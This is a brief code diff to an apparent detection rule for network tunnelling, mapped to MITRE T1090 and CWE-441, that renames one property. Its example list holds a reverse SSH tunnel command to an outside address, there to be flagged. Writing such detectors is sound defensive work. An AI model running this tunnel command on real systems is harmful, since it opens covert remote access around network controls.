@@ -17,7 +17,7 @@ export const networkTunnel: Rule = {
     'https://attack.mitre.org/techniques/T1090/',
   ],
   mappings: { owasp: ['ASI02'], cwe: ['CWE-441'] },
-  commands: () => [{ ...interest, judge }],
+  commands: () => [{ ...interest, check: judge }],
   examples: {
     flags: [
       shellCall('ssh -fN -R 2222:localhost:22 u@203.0.113.9'),
